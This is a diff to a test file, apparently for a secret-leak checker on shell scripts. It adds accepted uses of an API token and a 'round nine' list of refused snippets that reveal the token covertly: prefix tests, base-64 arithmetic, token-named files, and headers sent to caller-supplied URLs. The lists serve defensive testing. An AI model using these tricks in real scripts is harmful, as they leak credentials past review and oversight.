@@ -62,6 +62,10 @@ ACCEPTED = [
     'curl -fsS -H "Authorization: Bearer $API_TOKEN" "https://api.example.com/v1/$ARG_host"',
     # a header holding caller data beside the secret is sent, never printed
     'curl -fsS -H "X-Auth: $API_TOKEN/$ARG_host" https://api.example.com/v1',
+    # the whole secret compared for equality or emptiness; its length
+    "[[ -n $API_TOKEN ]] || exit 1",
+    '[[ $API_TOKEN == "$EXPECTED_TOKEN" ]] && echo same',
+    '[ "${#API_TOKEN}" -ge 20 ] || echo "too short"',
     # an HMAC keyed with the secret is not the secret
     'sig=$(printf %s "$ARG_host" | openssl dgst -sha256 -hmac "$API_TOKEN" -r | cut -d" " -f1)\n'
     'curl -fsS -H "X-Signature: $sig" https://hooks.example.com/deploys',
@@ -78,6 +82,20 @@ REFUSED = [
     'printf -- "%s" "$API_TOKEN" | docker run -i alpine cat',
     'tool --token "$API_TOKEN"',
     'printf %s "$API_TOKEN" | openssl enc -base64',
+    # round nine: told without being printed, through what the script does
+    # next (a condition on a part of it, a pattern), a number, a file's name
+    '[[ ${API_TOKEN:0:1} == g ]] && echo "a GitHub token"',
+    '[ "${API_TOKEN%%_*}" = ghp ] && echo "a GitHub token"',
+    '[[ $API_TOKEN == ghp_* ]] && echo "a GitHub token"',
+    '[[ $API_TOKEN =~ ^gh ]] && echo "a GitHub token"',
+    'case "$API_TOKEN" in ghp_*) echo "a GitHub token";; esac',
+    'p=${API_TOKEN:0:4}\n[[ $p == ghp_ ]] && echo "a GitHub token"',
+    '(( n = 64#${API_TOKEN:0:6} ))\necho "$n"',
+    'let "n = 64#$API_TOKEN"\necho "$n"',
+    ': > "$HARBOR_RUN_DIR/key-$API_TOKEN"\nls "$HARBOR_RUN_DIR"',
+    'mkdir -p -- "$HARBOR_RUN_DIR/c/$API_TOKEN" >/dev/null 2>&1\nls -R "$HARBOR_RUN_DIR/c"',
+    'printf \'%s\\n\' "$ARG_host" > "$HARBOR_RUN_DIR/urls"\n'
+    'wget -q --header "A: $API_TOKEN" -i "$HARBOR_RUN_DIR/urls" >/dev/null 2>&1',
     'for v in ${!API_@}; do echo "$(printf %s "${!v}" | base64)"; done',
     'sha=$(curl -sS -H "A: $API_TOKEN" https://x/; echo "$API_TOKEN")\necho "$sha"',
     'test -n "$API_TOKEN"\nprintf "%s" "$_" | base64',
